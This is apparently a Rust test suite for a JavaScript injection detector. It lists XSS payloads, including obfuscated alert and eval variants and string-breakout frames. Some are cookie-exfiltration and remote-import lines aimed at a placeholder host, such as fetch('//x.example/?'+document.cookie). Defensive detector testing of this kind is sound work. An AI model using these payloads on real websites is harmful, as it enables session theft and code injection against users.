use super::{read, Ending, Start};

/// What shows a script or runs another.
const DEEDS: &[&str] = &[
    "alert(1)",
    "alert?.(1)",
    "alert`1`",
    "(alert)(1)",
    "eval('x')",
    "[1].map(alert)",
    "[,alert][1](1)",
    "'x'.replace(/x/,alert)",
    "top['al'+'ert'](1)",
    "window[`al`+`ert`](1)",
    "top[/al/.source+/ert/.source](1)",
    "[]['filter']['constructor']('x')()",
    "x.constructor.constructor('return x')()",
    "document.body.innerHTML='<b>'",
    "element.outerHTML += name",
    "location='//x.example'",
    "location.href=name",
    "fetch('//x.example/?'+document.cookie)",
    "new WebSocket('wss://x.example')",
    "import('//x.example/x.js')",
    "$.getScript(name)",
    "$('#a').html(name)",
    "new Set([alert]).forEach(f=>f(1))",
    "Promise.resolve().then(eval)",
    "onerror=alert,foo()",
    "a=alert,a(1)",
    "\\u0061lert(1)",
    "a\\u{6c}ert(1)",
    "alert.call(null,1)",
    "setTimeout(name)",
    "self.location.replace(name)",
];

/// Around it.
const FRAMES: &[(&str, &str)] = &[
    ("", ""),
    ("", ";"),
    ("void ", ""),
    ("x=", ""),
    ("var x = ", ";"),
    ("(()=>{", "})()"),
    ("function f(){", "}f()"),
    ("if(1){", "}else{}"),
    ("for(;;){", "}"),
    ("try{", "}catch(e){}"),
    ("1,", ",2"),
    ("/* x */", "// x"),
    ("`${", "}`"),
    ("!{x:", "}"),
    ("async () => await ", ""),
    ("\"a\".b(c => ", ")"),
    ("1 ? ", " : 2"),
];

#[test]
fn scripts_are_read_to_their_end() {
    for (before, behind) in FRAMES {
        for deed in DEEDS {
            let text = format!("{before}{deed}{behind}");
            let (seen, ending) = read(text.as_bytes(), Start::Operand);
            assert!(
                ending != Ending::Broken && (seen.attacks() || seen.page || seen.sends),
                "{text}: {ending:?} {seen:?}"
            );
        }
    }
}

#[test]
fn scripts_go_on_behind_a_string_or_a_number() {
    for (before, behind) in [
        (";", "//"),
        ("-", "-'"),
        ("+", "+\""),
        (");", "/*"),
        ("]});", "<!--"),
        (",", ","),
        ("||", "||'"),
        ("?", ":1"),
        ("\n;", ""),
        (";", "</script>"),
    ] {
        // Where an operand must follow, statements cannot.
        for deed in DEEDS.iter().filter(|deed| !deed.contains(",foo")) {
            let text = format!("{before}{deed}{behind}");
            let (seen, ending) = read(text.as_bytes(), Start::Operator);
            assert!(
                ending != Ending::Broken && (seen.attacks() || seen.page || seen.sends),
                "{text}: {ending:?} {seen:?}"
            );
        }
    }
}

#[test]
fn prose_is_none_and_harmless_scripts_do_nothing() {
    for text in [
        "Please confirm (again) the order",
        "alert the team",
        "Notice (alert)",
        "confirm (yes)",
        "the document.cookie property",
        "level=alert",
        "location=Berlin",
        "location = home",
        "parent = x",
        "self.assertEqual(a, b)",
        "print('hello')",
        "a.b.c(d, [1, 2], {e: 'f'})",
        "const x = require('y');",
        "x => x + 1",
        "{\"a\": \"alert(1)\", \"b\": [1, null]}",
        "'alert(1)'",
        "/alert(1)/",
        "// alert(1)",
        "total = price * (1 + tax) / 12",
        "user.confirm()",
        "https://example.com/a?b=c",
        "10:30 - 11:45 (UTC)",
        "don't alert(1)",
    ] {
        let (seen, ending) = read(text.as_bytes(), Start::Operand);
        assert!(
            ending == Ending::Broken || !(seen.attacks() || seen.page || seen.sends),
            "{text}: {ending:?} {seen:?}"
        );
    }
}

#[test]
fn holes_end_with_their_bracket() {
    for (text, ending) in [
        ("alert(1)}", Ending::Whole),
        ("{a:alert(1)}}x y z", Ending::Whole),
        ("`${`}`}`+alert(1)} and so on", Ending::Whole),
        ("name} is not alert(1)", Ending::Whole),
        ("alert(1) and so on", Ending::Broken),
    ] {
        assert_eq!(read(text.as_bytes(), Start::Hole).1, ending, "{text}");
    }
    assert!(!read(b"name} is not alert(1)", Start::Hole).0.shows);
    let deep = "[".repeat(super::DEEPEST + 1);
    assert_eq!(read(deep.as_bytes(), Start::Operand).1, Ending::Broken);
}
